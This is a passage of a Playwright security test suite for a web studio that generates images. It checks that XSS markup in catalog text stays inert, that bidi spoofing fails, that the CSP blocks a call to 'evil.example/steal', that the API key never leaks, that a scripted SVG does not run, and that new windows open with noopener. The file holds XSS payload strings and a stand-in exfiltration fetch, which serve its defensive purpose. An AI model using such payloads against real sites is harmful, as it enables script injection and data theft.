import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { SANDBOX_BASE_URL, SANDBOX_ORIGIN, expect, test } from './fixtures';
import { disconnect, expectImageLoaded, generate } from './task-helpers';

// product-notes §3: every catalog string is untrusted text, rendered as text, never as HTML. The sandbox's
// community templates carry the attacks: markup with handlers, script tags, a 2,400-character name,
// right-to-left text with bidi overrides, and markup in tags and option labels.

const ATTACKS = [
  'dreamy-portraits',
  'instant-glow-up',
  'endless-zoom',
  'cinematic-portrait-rtl',
  'sticker-sheet',
] as const;

/** What markup in catalog text would have created if it had been parsed as HTML. */
const injected = (page: Page) =>
  page.evaluate(() => ({
    // In <body>: the page's own inline script in <head> (the theme, the language) reads localStorage.
    scripts: Array.from(document.body.querySelectorAll('script'))
      .filter((s) => /alert|evil\.example|localStorage/.test(s.textContent ?? ''))
      .map((s) => s.outerHTML),
    imgX: Array.from(document.images)
      .filter((i) => i.getAttribute('src') === 'x')
      .map((i) => i.outerHTML),
    handlers: Array.from(document.querySelectorAll('[onerror], [onload], [onclick]')).map((e) => e.outerHTML),
    jsLinks: Array.from(document.querySelectorAll('a[href^="javascript:" i]')).map((e) => e.outerHTML),
    bold: Array.from(document.querySelectorAll('b')).map((e) => e.outerHTML),
  }));

const overflow = (page: Page) =>
  page.evaluate(() => ({
    scrollWidth: document.documentElement.scrollWidth,
    clientWidth: document.documentElement.clientWidth,
  }));

test('the attack templates render as inert text: no dialog, no script, no <img src=x>, no overflow', async ({
  studio,
  sandbox,
  page,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.setViewportSize({ width: 1280, height: 800 });
  await studio.start('personal');
  const title = await page.title();

  const templates = await sandbox.templates();
  await studio.tab('Templates').click();
  const panel = studio.panel('Templates');

  for (const slug of ATTACKS) {
    const template = templates.find((t) => t.slug === slug);
    expect(template, `${slug} is listed`).toBeDefined();
    await test.step(slug, async () => {
      const card = panel.getByRole('listitem').nth(templates.indexOf(template!)).getByRole('button');
      await expect(card).toContainText(template!.name.slice(0, 60));
      await card.click();
      await expect(page).toHaveURL(new RegExp(`[?&]template=${slug}(&|$)`));
      const form = page.getByRole('region', { name: 'Form' }).getByRole('form');
      await expect(form.getByRole('heading', { level: 2 })).toHaveText(template!.name);

      expect(await injected(page)).toEqual({ scripts: [], imgX: [], handlers: [], jsLinks: [], bold: [] });
      expect(await page.title()).toBe(title);
      const { scrollWidth, clientWidth } = await overflow(page);
      expect(scrollWidth, 'no horizontal overflow at 1280 px').toBeLessThanOrEqual(clientWidth);
      expect(dialogs).toEqual([]);
    });
  }

  // The markup is shown as the literal text it is.
  await expect(
    panel.getByText('Dreamy portraits <img src=x onerror=alert(1)>', { exact: true }),
  ).toBeVisible();
  await expect(
    panel.getByText('Instant glow-up <script>alert("xss")</script>', { exact: true }),
  ).toBeVisible();

  // Option labels with markup, in the sticker sheet's form (the last one opened), are text too.
  const style = page.getByRole('combobox', { name: 'Sticker style', exact: true });
  await expect(style.locator('option', { hasText: '<script>alert(3)</script>Anime' })).toHaveCount(1);
  await style.selectOption('anime');
  expect(await injected(page)).toEqual({ scripts: [], imgX: [], handlers: [], jsLinks: [], bold: [] });

  expect(dialogs).toEqual([]);
  expect(await page.title()).toBe(title);
});

test('right-to-left text is shown as text in its own direction, and bidi overrides cannot spoof', async ({
  studio,
  sandbox,
  page,
}) => {
  await studio.start('personal');
  const rtl = (await sandbox.templates()).find((t) => t.slug === 'cinematic-portrait-rtl')!;
  expect(rtl.summary).toContain('\u202e');

  await studio.tab('Templates').click();
  const card = studio.card(rtl.name, studio.panel('Templates'));
  await expect(card).toBeVisible();
  await expect(card.getByText(rtl.name, { exact: true })).toHaveAttribute('dir', 'auto');

  await card.click();
  const form = studio.form(rtl.name);
  await expect(form).toBeVisible();
  const heading = form.getByRole('heading', { name: rtl.name, exact: true });
  await expect(heading).toHaveAttribute('dir', 'auto');
  // The summary says "download gpj.exe now": an override must not make it read "exe.jpg".
  const shown = await page.getByRole('region', { name: 'Form' }).innerText();
  expect(shown).toContain('صور شخصية بإضاءة سينمائية');
  expect(shown).toContain('gpj.exe');
  expect(shown).not.toMatch(/[\u202a-\u202e]/);
  expect(await studio.panel('Templates').innerText()).not.toMatch(/[\u202a-\u202e]/);
});

test('the 2,400-character name stays inside the page at 1280 px, in the gallery and in the form', async ({
  studio,
  sandbox,
  page,
}) => {
  await page.setViewportSize({ width: 1280, height: 800 });
  await studio.start('personal');
  const zoom = (await sandbox.templates()).find((t) => t.slug === 'endless-zoom')!;
  expect(zoom.name.length).toBeGreaterThanOrEqual(2000);

  await studio.tab('Templates').click();
  await expect(studio.card(zoom.name, studio.panel('Templates'))).toBeVisible();
  let { scrollWidth, clientWidth } = await overflow(page);
  expect(scrollWidth).toBeLessThanOrEqual(clientWidth);

  await studio.card(zoom.name, studio.panel('Templates')).click();
  const heading = studio.form(zoom.name).getByRole('heading', { level: 2 });
  await expect(heading).toBeVisible();
  ({ scrollWidth, clientWidth } = await overflow(page));
  expect(scrollWidth).toBeLessThanOrEqual(clientWidth);
  // Clamped on screen: the heading is not thousands of pixels tall.
  const box = await heading.boundingBox();
  expect(box!.height).toBeLessThan(200);
});

test("the built studio is served with a Content-Security-Policy, and neither a whole journey nor a returning visitor's reload breaks it", async ({
  studio,
  page,
  history,
}) => {
  const violations: string[] = [];
  await page.exposeFunction('reportCsp', (v: string) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { reportCsp: (v: string) => void }).reportCsp(
        `${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`,
      ),
    );
  });
  const response = await page.goto('/');
  const csp = response!.headers()['content-security-policy'] ?? '';
  for (const directive of [
    "script-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
    `connect-src 'self' ${SANDBOX_ORIGIN}`,
  ])
    expect(csp).toContain(directive);
  expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);

  await studio.connect('personal');
  const form = await studio.openModel('Lumen Canvas');
  await studio.prompt.fill('A lighthouse at dusk');
  await expect(studio.quote.getByTestId('quote-credits')).toBeVisible();
  await form.getByRole('button', { name: 'Generate' }).click();
  const card = history.card('A lighthouse at dusk');
  await history.expectStatus(card, 'succeeded');
  await expect(card.getByRole('img').first()).toBeVisible();
  await page.getByRole('button', { name: /^Compare/ }).click();
  await expect(page.getByRole('region', { name: 'Compare', exact: true })).toBeVisible();
  // A returning visitor's reload takes another way in (public/before-paint.js hides the page while the
  // stored key is checked, the client's code loads in steps): it breaks none of the policy either.
  await page.goto('/?model=lumen-canvas&version=lumen-canvas-v2');
  await expect(page.getByRole('button', { name: 'Generate' })).toBeVisible();
  expect(violations).toEqual([]);
});

test('the policy refuses a call to an origin it does not name', async ({ studio, page }) => {
  await studio.goto();
  // The browser reports the refusal itself (offline or not, this is the policy speaking).
  const directive = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), {
          once: true,
        });
        void fetch('https://evil.example/steal').catch(() => undefined);
      }),
  );
  expect(directive).toBe('connect-src');
});

// ---------------------------------------------------------------------------------------------------
// product-notes §3 "Connect and account": the key lives in this tab's sessionStorage (credentials-store.ts,
// key "media-studio:api-key") unless "Remember this key on this device" puts it in localStorage under
// the same name. It never appears anywhere else: not in IndexedDB, an exported file, a URL the page
// goes to or shows, a request URL, a request to the media CDN, the console, or the document.

const KEY_ITEM = 'media-studio:api-key';

/** The forms a key could leak in: whole, its secret part (beyond the 12-character prefix the studio may show), base64. */
const leakForms = (key: string) => [key, key.slice(12), Buffer.from(key).toString('base64')];
const leaks = (text: string, key: string) => leakForms(key).some((form) => text.includes(form));

interface StorageDump {
  local: Record<string, string | null>;
  session: Record<string, string | null>;
  cookie: string;
  /** Every IndexedDB database of the origin: every object store, its keys and values (Blobs read as text). */
  indexedDb: Record<string, Record<string, { keys: unknown[]; values: unknown[] }>>;
  /** Cache Storage: the URL of every cached request. */
  caches: Record<string, string[]>;
}

/** Everything the origin keeps in the browser, read back the way any script on the page could. */
const dumpStorage = (page: Page): Promise<StorageDump> =>
  page.evaluate(async () => {
    const entries = (s: Storage) =>
      Object.fromEntries(Array.from({ length: s.length }, (_, i) => s.key(i)!).map((k) => [k, s.getItem(k)]));
    const asText = async (value: unknown): Promise<unknown> => {
      if (value instanceof Blob) return { blob: value.type, text: await value.text() };
      if (value instanceof ArrayBuffer) return new TextDecoder('latin1').decode(value);
      if (ArrayBuffer.isView(value)) return new TextDecoder('latin1').decode(value);
      if (value instanceof Date) return value.toISOString();
      if (value instanceof Map) return asText(Object.fromEntries(value));
      if (value instanceof Set) return asText([...value]);
      if (Array.isArray(value)) return Promise.all(value.map(asText));
      if (value && typeof value === 'object')
        return Object.fromEntries(
          await Promise.all(Object.entries(value).map(async ([k, v]) => [k, await asText(v)] as const)),
        );
      return value;
    };
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const indexedDb: StorageDump['indexedDb'] = {};
    for (const { name } of await indexedDB.databases()) {
      if (!name) continue;
      const db = await done(indexedDB.open(name));
      const stores: StorageDump['indexedDb'][string] = {};
      for (const storeName of Array.from(db.objectStoreNames)) {
        const store = db.transaction(storeName, 'readonly').objectStore(storeName);
        const [keys, values] = await Promise.all([done(store.getAllKeys()), done(store.getAll())]);
        stores[storeName] = {
          keys: (await asText(keys)) as unknown[],
          values: (await asText(values)) as unknown[],
        };
      }
      db.close();
      indexedDb[name] = stores;
    }
    const cachesDump: Record<string, string[]> = {};
    if ('caches' in window)
      for (const name of await caches.keys())
        cachesDump[name] = (await (await caches.open(name)).keys()).map((r) => r.url);
    return {
      local: entries(localStorage),
      session: entries(sessionStorage),
      cookie: document.cookie,
      indexedDb,
      caches: cachesDump,
    };
  });

/** What a person or a script could read off the page: the markup, the text, every field's current value, the title. */
const pageText = (page: Page) =>
  page.evaluate(() =>
    [
      document.documentElement.outerHTML,
      document.body.innerText,
      document.title,
      ...Array.from(document.querySelectorAll('input, textarea, select')).map(
        (el) => (el as HTMLInputElement).value,
      ),
    ].join('\n'),
  );

/** Records what the page logs, every URL it navigates to or pushes, and every request it sends. */
async function watchPage(page: Page) {
  const seen = {
    console: [] as string[],
    urls: [] as string[],
    requests: [] as Array<{ url: string; headers: string }>,
  };
  const pending: Array<Promise<unknown>> = [];
  page.on('console', (msg) => {
    seen.console.push(`${msg.type()}: ${msg.text()} @ ${msg.location().url}`);
    // Objects logged as arguments, in full (text() only shows a preview).
    pending.push(
      Promise.all(msg.args().map((arg) => arg.jsonValue().catch(() => null))).then((args) =>
        seen.console.push(JSON.stringify(args)),
      ),
    );
  });
  page.on('pageerror', (error) => seen.console.push(`pageerror: ${error.message}\n${error.stack ?? ''}`));
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) seen.urls.push(frame.url());
  });
  page.on('request', (request) => {
    pending.push(
      request
        .allHeaders()
        .then((headers) => seen.requests.push({ url: request.url(), headers: JSON.stringify(headers) }))
        .catch(() => seen.requests.push({ url: request.url(), headers: '' })),
    );
  });
  // Same-document navigations (pushState / replaceState / popstate), as the app makes them.
  await page.exposeFunction('recordUrl', (url: string) => seen.urls.push(url));
  await page.addInitScript(() => {
    const record = () => (window as unknown as { recordUrl: (u: string) => void }).recordUrl(location.href);
    for (const method of ['pushState', 'replaceState'] as const) {
      const original = history[method].bind(history);
      history[method] = (...args: Parameters<typeof history.pushState>) => {
        original(...args);
        record();
      };
    }
    window.addEventListener('popstate', record);
    window.addEventListener('hashchange', record);
  });
  return { seen, settle: () => Promise.all(pending) };
}

const compare = (page: Page) => page.getByRole('region', { name: 'Compare', exact: true });

test.describe('the API key stays out of everything but its one storage slot', () => {
  test('without "Remember": only sessionStorage holds it, never localStorage, IndexedDB, exports, URLs or the console', async ({
    studio,
    sandbox,
    page,
    history,
    context,
    baseURL,
  }) => {
    test.setTimeout(120_000);
    const key = studio.keyOf('personal');
    // A key that is typed but refused must not leak either.
    const refused = `gm_live_${'Qx7'.repeat(10)}Qx`;
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseURL! });
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    const { seen, settle } = await watchPage(page);
    const exported: Record<string, string> = {};

    await studio.goto();
    await studio.fillKey(refused);
    await expect(page.getByRole('alert')).toContainText('This API key was not accepted');
    await studio.connect('personal');

    // Catalog: every tab, a search, a model (its selection goes into the URL).
    await studio.tab('AI tools').click();
    await studio.tab('Templates').click();
    await studio.search.fill('portrait');
    await studio.search.fill('');
    await studio.openModel('Lumen Canvas');
    await expect(page).toHaveURL(/[?&]model=lumen-canvas(&|$)/);

    // Generate: one that succeeds, one that fails, one blocked at submit.
    const ok = 'A lighthouse at dusk, kept secret';
    const failing = 'A storm at sea [fail]';
    await generate(studio, ok);
    await generate(studio, failing);
    await studio.prompt.fill('Something forbidden [blocked]');
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    await expect(
      page
        .getByRole('alert')
        .filter({ hasText: 'The prompt was blocked by the content policy. Nothing was charged.' }),
    ).toBeVisible();
    await history.expectStatus(history.card(ok), 'succeeded');
    await history.expectStatus(history.card(failing), 'failed');

    // A server that echoes the key back in its error: the studio shows the error, never the key.
    await sandbox.fault({
      method: 'POST',
      path: '/v1/tasks',
      status: 500,
      body: {
        error: {
          type: 'api_error',
          code: 'internal_error',
          message: `Something broke while handling Bearer ${key}`,
          detail: `token=${key}`,
        },
      },
    });
    await studio.prompt.fill('A quiet harbour');
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    // The studio shows the server's message (the key redacted) and re-sends the submit, which then lands.
    await expect(page.getByText(/Something broke while handling Bearer \[redacted key\]/)).toBeVisible();
    await history.expectStatus(history.card('A quiet harbour'), 'succeeded');

    // "Copy request": curl and fetch carry the placeholder, shown and copied.
    await studio.prompt.fill(ok);
    await studio.copyRequestButton.click();
    const copyDialog = page.getByRole('dialog', { name: 'Copy request' });
    for (const format of ['curl', 'fetch'] as const) {
      await copyDialog.getByRole('tab', { name: format, exact: true }).click();
      const code = copyDialog.getByTestId(`request-${format}`);
      await expect(code).toContainText('Bearer $API_KEY');
      exported[`${format} shown`] = (await code.textContent()) ?? '';
      await copyDialog.getByRole('button', { name: `Copy ${format}`, exact: true }).click();
      await expect(copyDialog.getByRole('button', { name: 'Copied', exact: true })).toBeVisible();
      exported[`${format} copied`] = await clipboard();
      expect(exported[`${format} copied`]).toBe(exported[`${format} shown`]);
    }
    await copyDialog.getByRole('button', { name: 'Close' }).click();

    // The task detail: its raw JSON is on the page (checked below); "Copy URL" copies the output URL only.
    const detail = await history.openDetail(history.card(ok));
    await detail.getByRole('button', { name: 'Copy URL', exact: true }).click();
    await expect(detail.getByText('URL copied.')).toBeVisible();
    exported['output URL'] = await clipboard();
    expect(exported['output URL']).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/cdn\//);
    await history.closeDetail(detail);

    // History export (JSON).
    let download = page.waitForEvent('download');
    await history.region.getByRole('button', { name: 'Export', exact: true }).click();
    const historyFile = await download;
    exported['history export'] = await readFile((await historyFile.path())!, 'utf8');
    expect(exported['history export']).toContain(ok);

    // Compare: a board, run, its share link (shown and copied) and its contact sheet (PNG bytes).
    await page.getByRole('button', { name: /^Compare/ }).click();
    const board = compare(page);
    await expect(board).toBeVisible();
    for (const label of ['Lumen Canvas · v2', 'Pop Diffusion · Pop 1'])
      await board.getByRole('combobox', { name: 'Add model' }).selectOption({ label });
    await board.getByLabel('Prompt 1', { exact: true }).fill(ok);
    await board.getByRole('button', { name: /^Run all/ }).click();
    await expect(board.locator('[data-cell-state="succeeded"]')).toHaveCount(2, { timeout: 30_000 });
    await expect(page).toHaveURL(/[?&]compare=[\w-]+/);
    await board.getByRole('button', { name: 'Share link' }).click();
    exported['share link'] = await board.getByRole('textbox', { name: 'Share link' }).inputValue();
    expect(exported['share link']).toMatch(/[?&]compare=shared&setup=/);
    await expect.poll(clipboard).toBe(exported['share link']);
    download = page.waitForEvent('download');
    await board.getByRole('button', { name: 'Export contact sheet' }).click();
    const sheet = await readFile((await (await download).path())!);
    expect(sheet.subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a');
    exported['contact sheet (latin1)'] = sheet.toString('latin1');
    exported['contact sheet (utf8)'] = sheet.toString('utf8');

    // A reload keeps the tab connected (from sessionStorage), and the page still holds no key.
    await page.reload();
    await expect(studio.accountButton).toContainText('credits');

    // Exports: none carries the key; "Copy request" carries the placeholder.
    for (const [what, text] of Object.entries(exported)) {
      expect(leaks(text, key), `${what} carries the key`).toBe(false);
      expect(leaks(text, refused), `${what} carries the refused key`).toBe(false);
    }
    for (const format of ['curl', 'fetch']) expect(exported[`${format} shown`]).toContain('$API_KEY');

    // Storage: sessionStorage holds it in exactly one slot; localStorage, cookies, caches and every
    // IndexedDB database and store do not (and those were really read: they hold the tasks and the board).
    const dump = await dumpStorage(page);
    expect(Object.entries(dump.session).filter(([, v]) => v !== null && leaks(v, key))).toEqual([
      [KEY_ITEM, key],
    ]);
    expect(dump.local).toHaveProperty(['media-studio:base-url']);
    expect(leaks(JSON.stringify(dump.local), key), 'localStorage holds the key').toBe(false);
    expect(leaks(dump.cookie, key), 'a cookie holds the key').toBe(false);
    expect((await context.cookies()).filter((c) => leaks(c.value, key))).toEqual([]);
    expect(leaks(JSON.stringify(dump.caches), key), 'Cache Storage holds the key').toBe(false);
    expect(Object.keys(dump.indexedDb)).toContain('media-studio');
    const studioDb = dump.indexedDb['media-studio']!;
    expect(Object.keys(studioDb)).toEqual(expect.arrayContaining(['tasks', 'outbox', 'uploads', 'boards']));
    expect(JSON.stringify(studioDb.tasks)).toContain(ok);
    expect(studioDb.boards!.values).toHaveLength(1);
    for (const [db, stores] of Object.entries(dump.indexedDb))
      for (const [store, contents] of Object.entries(stores))
        expect(leaks(JSON.stringify(contents), key), `IndexedDB ${db}/${store} holds the key`).toBe(false);
    expect(leaks(JSON.stringify(dump), refused), 'the refused key was stored').toBe(false);

    // URLs: every one the page went to or pushed, and every request it sent; the key only ever
    // travels in the Authorization header of API calls, never to the media CDN.
    await settle();
    expect(seen.urls.some((u) => /[?&]model=/.test(u))).toBe(true);
    expect(seen.urls.some((u) => /[?&]compare=/.test(u))).toBe(true);
    expect(seen.urls.filter((u) => leaks(u, key) || leaks(u, refused))).toEqual([]);
    expect(leaks(page.url(), key)).toBe(false);
    expect(seen.requests.filter((r) => leaks(r.url, key) || leaks(r.url, refused))).toEqual([]);
    const carrying = seen.requests.filter((r) => leaks(r.headers, key));
    expect(carrying.length).toBeGreaterThan(0);
    expect(
      carrying.filter((r) => !r.url.startsWith(`${SANDBOX_BASE_URL}/`)).map((r) => r.url),
      'requests other than API calls carry the key in a header',
    ).toEqual([]);
    expect(seen.requests.some((r) => r.url.includes('/cdn/'))).toBe(true);

    // The console: it did log (the failed requests at least), never the key.
    expect(seen.console.length).toBeGreaterThan(0);
    expect(seen.console.filter((line) => leaks(line, key) || leaks(line, refused))).toEqual([]);

    // The document (markup, text, field values, title), the Account dialog open: its public prefix only.
    const account = await studio.openAccount();
    await expect(account.getByText(`${key.slice(0, 12)}…`)).toBeVisible();
    const shown = await pageText(page);
    expect(shown).toContain(`${key.slice(0, 12)}…`);
    expect(leaks(shown, key), 'the page shows the key').toBe(false);
  });

  test('with "Remember": localStorage holds it in its one slot, sessionStorage and IndexedDB do not; Disconnect clears it', async ({
    studio,
    page,
    history,
  }) => {
    const key = studio.keyOf('personal');
    await studio.start('personal', { remember: true });
    await studio.openModel('Lumen Canvas');
    const prompt = 'A remembered lighthouse';
    await generate(studio, prompt);
    await history.expectStatus(history.card(prompt), 'succeeded');

    let dump = await dumpStorage(page);
    // The same probe that finds nothing without "Remember" finds the key here, where it belongs.
    expect(leaks(JSON.stringify(dump.local), key)).toBe(true);
    expect(Object.entries(dump.local).filter(([, v]) => v !== null && leaks(v, key))).toEqual([
      [KEY_ITEM, key],
    ]);
    expect(leaks(JSON.stringify(dump.session), key), 'sessionStorage holds the key').toBe(false);
    expect(JSON.stringify(dump.indexedDb['media-studio']?.tasks)).toContain(prompt);
    expect(leaks(JSON.stringify(dump.indexedDb), key), 'IndexedDB holds the key').toBe(false);
    expect(leaks(page.url(), key)).toBe(false);

    // And the IndexedDB probe reads every database and store, Blobs included: a key planted in a
    // scratch database, inside a Blob, is found.
    await page.evaluate(async (planted) => {
      await new Promise<void>((resolve, reject) => {
        const open = indexedDB.open('security-canary', 1);
        open.onupgradeneeded = () => open.result.createObjectStore('things', { autoIncrement: true });
        open.onsuccess = () => {
          const tx = open.result.transaction('things', 'readwrite');
          tx.objectStore('things').put({ nested: { file: new Blob([`x ${planted} y`]) } });
          tx.oncomplete = () => {
            open.result.close();
            resolve();
          };
          tx.onerror = () => reject(tx.error);
        };
        open.onerror = () => reject(open.error);
      });
    }, key);
    dump = await dumpStorage(page);
    expect(leaks(JSON.stringify(dump.indexedDb['security-canary']), key)).toBe(true);
    await page.evaluate(
      () =>
        new Promise((resolve) => {
          indexedDB.deleteDatabase('security-canary').onsuccess = resolve;
        }),
    );

    // A reload reconnects from localStorage; Disconnect forgets it everywhere.
    await page.reload();
    await expect(studio.accountButton).toContainText('credits');
    await disconnect(studio);
    dump = await dumpStorage(page);
    expect(leaks(JSON.stringify(dump), key), 'the key survived Disconnect').toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------------
// An SVG output is untrusted markup. The sandbox's `[svg-script]` trigger (sandbox/README.md) makes one
// whose <script> and root onload each alert(), top.postMessage() and (the script) set document.title.
// The studio shows outputs only through <img>, where SVG never runs script; inline markup, <object>,
// <embed> or <iframe> would run it. The sandbox CDN also sandboxes media with a CSP: that header is
// removed here, as a CDN that does not send one would, so the studio's own rendering is what is tested.

const SVG_EFFECTS = ['svg-script ran', 'svg-onload ran'];

/** Every element whose attributes point at `path`, as "TAG attr". */
const referencesTo = (page: Page, path: string) =>
  page.evaluate(
    (p) =>
      Array.from(document.querySelectorAll('*')).flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => a.value.includes(p))
          .map((a) => `${el.tagName} ${a.name}`),
      ),
    path,
  );

/** Anything that could have run the SVG's markup in the page. */
const activeSvg = (page: Page) =>
  page.evaluate(() => ({
    frames: Array.from(document.querySelectorAll('object, embed, iframe, frame')).map((e) => e.outerHTML),
    inline: Array.from(document.querySelectorAll('svg')).filter(
      (svg) => svg.querySelector('script, foreignObject') !== null || svg.hasAttribute('onload'),
    ).length,
    payloadInDom: document.documentElement.outerHTML.includes('svg-script ran'),
    titleChanged: document.title.includes('svg-script'),
  }));

test('an SVG output carrying a script and an onload handler is shown through <img> and runs nothing', async ({
  studio,
  page,
  history,
  context,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const messages: string[] = [];
  await page.exposeFunction('recordMessage', (data: string) => messages.push(data));
  await page.addInitScript(() =>
    window.addEventListener('message', (e) =>
      (window as unknown as { recordMessage: (d: string) => void }).recordMessage(String(e.data)),
    ),
  );
  await context.route(`${SANDBOX_ORIGIN}/cdn/**`, async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers() };
    delete headers['content-security-policy'];
    await route.fulfill({ response, headers });
  });

  await studio.start('personal');
  await studio.openModel('Iconsmith', 'image/image-svg');
  const prompt = 'A shield icon [svg-script]';
  await generate(studio, prompt);
  const card = history.card(prompt);
  await history.expectStatus(card, 'succeeded');

  // The card shows it, through an <img> whose picture has loaded (so an inline or framed copy would have run by now).
  const thumb = card.getByRole('img', { name: prompt });
  await expectImageLoaded(thumb);
  const src = (await thumb.getAttribute('src')) ?? '';
  expect(await thumb.evaluate((el) => el.tagName)).toBe('IMG');
  const { pathname } = new URL(src);
  expect(pathname).toMatch(/^\/cdn\/.+\.svg$/);
  const served = await page.request.get(src);
  expect(served.headers()['content-type']).toBe('image/svg+xml');
  expect(await served.text()).toContain("alert('svg-script ran')");
  expect(await referencesTo(page, pathname)).toEqual(['IMG src']);
  expect(await activeSvg(page)).toEqual({ frames: [], inline: 0, payloadInDom: false, titleChanged: false });

  // The detail view shows it large, through <img> again.
  const detail = await history.openDetail(card);
  const large = detail.getByRole('img', { name: prompt });
  await expectImageLoaded(large);
  expect(await large.evaluate((el) => el.tagName)).toBe('IMG');
  expect(await large.getAttribute('src')).toBe(src);
  expect(await referencesTo(page, pathname)).toEqual(['IMG src', 'IMG src']);
  expect(await activeSvg(page)).toEqual({ frames: [], inline: 0, payloadInDom: false, titleChanged: false });

  // The payload is live: opened as a document of its own (no CSP), it does all it says.
  const control = await context.newPage();
  const controlDialogs: string[] = [];
  control.on('dialog', (dialog) => {
    controlDialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await control.goto(src);
  await expect.poll(() => controlDialogs).toEqual(SVG_EFFECTS);
  await expect(control).toHaveTitle('svg-script ran');
  await control.close();

  // And in the studio it did none of it: no dialog, no message, the title untouched.
  await history.closeDetail(detail);
  expect(dialogs).toEqual([]);
  expect(messages.filter((m) => SVG_EFFECTS.includes(m))).toEqual([]);
  expect(await page.title()).not.toContain('svg-script');
});

// ---------------------------------------------------------------------------------------------------
// Links to outside: whatever opens another browsing context (an <a>, <area> or <form> with a target
// other than _self/_parent/_top, or window.open) must cut the opener, so the opened page cannot
// navigate the studio (reverse tabnabbing). Every such element the studio ever puts in the DOM, on
// every screen, is recorded as it appears.

interface Opening {
  tag: string;
  target: string;
  rel: string;
  href: string;
  text: string;
}

async function recordOpenings(page: Page): Promise<Opening[]> {
  const seen: Opening[] = [];
  await page.exposeFunction('recordOpening', (json: string) => seen.push(JSON.parse(json) as Opening));
  await page.addInitScript(() => {
    const record = (o: Record<string, string>) =>
      (window as unknown as { recordOpening: (json: string) => void }).recordOpening(JSON.stringify(o));
    const report = (el: Element) =>
      record({
        tag: el.tagName,
        target: el.getAttribute('target') ?? '',
        rel: el.getAttribute('rel') ?? '',
        href: el.getAttribute('href') ?? el.getAttribute('action') ?? '',
        text: (el.textContent ?? '').trim().slice(0, 80),
      });
    const scan = (node: Node) => {
      if (!(node instanceof Element)) return;
      if (node.hasAttribute('target')) report(node);
      node.querySelectorAll('[target]').forEach(report);
    };
    new MutationObserver((records) => {
      for (const r of records) {
        if (r.type === 'attributes') scan(r.target);
        r.addedNodes.forEach(scan);
      }
    }).observe(document, {
      subtree: true,
      childList: true,
      attributes: true,
      attributeFilter: ['target', 'rel'],
    });
    const open = window.open.bind(window);
    window.open = (url?: string | URL, target?: string, features?: string) => {
      record({
        tag: 'window.open',
        target: target ?? '_blank',
        rel: features ?? '',
        href: String(url ?? ''),
        text: '',
      });
      return open(url, target, features);
    };
  });
  return seen;
}

const SAME_CONTEXT = new Set(['', '_self', '_parent', '_top']);

test('every link that opens a new window has rel="noopener", and the window it opens has no opener', async ({
  studio,
  sandbox,
  page,
  history,
}) => {
  test.setTimeout(120_000);
  const openings = await recordOpenings(page);

  await studio.start('personal');

  // Catalog: every category of models, AI tools, templates, and a form of each kind.
  for (const category of (await studio.category
    .locator('option')
    .evaluateAll((os) => os.map((o) => (o as HTMLOptionElement).value))) as string[]) {
    await studio.category.selectOption(category);
    await expect(studio.panel('Models').getByRole('listitem').first()).toBeVisible();
  }
  const tool = (await sandbox.aiTools())[0]!;
  await studio.openTool(tool.name);
  const template = (await sandbox.templates()).find((t) => t.official)!;
  await studio.openTemplate(template.name);
  await studio.openModel('Lumen Canvas');

  // Dialogs: Copy request, Account, Describe image.
  const prompt = 'A lighthouse to open elsewhere';
  await studio.prompt.fill(prompt);
  await studio.copyRequestButton.click();
  await page.getByRole('dialog', { name: 'Copy request' }).getByRole('button', { name: 'Close' }).click();
  const account = await studio.openAccount();
  await account.getByRole('button', { name: 'Close' }).click();
  await page.getByRole('button', { name: 'Describe image', exact: true }).click();
  const describe = page.getByRole('dialog', { name: 'Describe image' });
  await expect(describe).toBeVisible();
  await describe.getByRole('button', { name: 'Close' }).click();

  // A task and its detail; then a download that fails, which offers "Open it in a new tab".
  await generate(studio, prompt);
  const card = history.card(prompt);
  await history.expectStatus(card, 'succeeded');
  const detail = await history.openDetail(card);
  const output = detail.getByRole('img', { name: prompt });
  await expectImageLoaded(output);
  const url = (await output.getAttribute('src'))!;
  await page.route(`${SANDBOX_ORIGIN}/cdn/**`, (route) =>
    route.request().resourceType() === 'fetch'
      ? route.fulfill({ status: 503, headers: { 'Access-Control-Allow-Origin': '*' }, body: 'down' })
      : route.fallback(),
  );
  await detail.getByRole('button', { name: 'Download', exact: true }).click();
  const link = detail.getByRole('link', { name: /Open it in a new tab/ });
  await expect(link).toBeVisible();
  await expect(link).toHaveAttribute('href', url);
  await expect(link).toHaveAttribute('rel', /(^|\s)noopener(\s|$)/);

  // It opens the file in a window that cannot reach back to the studio.
  const popupOpened = page.waitForEvent('popup');
  await link.click();
  const popup = await popupOpened;
  await popup.waitForLoadState();
  expect(popup.url()).toBe(url);
  expect(await popup.evaluate(() => window.opener)).toBeNull();
  await popup.close();
  await page.unroute(`${SANDBOX_ORIGIN}/cdn/**`);
  await history.closeDetail(detail);

  // Compare, with a board run.
  await page.getByRole('button', { name: /^Compare/ }).click();
  const board = compare(page);
  for (const label of ['Lumen Canvas · v2', 'Pop Diffusion · Pop 1'])
    await board.getByRole('combobox', { name: 'Add model' }).selectOption({ label });
  await board.getByLabel('Prompt 1', { exact: true }).fill(prompt);
